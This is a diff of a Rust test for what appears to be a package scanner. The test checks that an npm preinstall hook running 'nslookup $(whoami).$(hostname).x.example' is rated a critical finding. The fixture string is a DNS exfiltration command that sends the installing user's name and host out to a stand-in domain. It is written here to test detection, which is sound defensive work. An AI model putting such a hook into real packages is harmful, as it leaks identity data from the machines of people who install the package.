@@ -48,12 +48,7 @@ mod tests {
     #[test]
     fn interpolated_lookup_is_critical() {
         let hook = r#""scripts":{"preinstall":"nslookup $(whoami).$(hostname).x.example"}"#;
-        let f = diff_versions(
-            "1.0.0",
-            &[("package.json", &manifest("1.0.0", ""))],
-            "1.0.1",
-            &[("package.json", &manifest("1.0.1", hook))],
-        );
+        let f = diff_manifest(hook);
         assert_eq!(
             find(&f, RULE.code).map(|f| f.severity),
             Some(Severity::Critical)
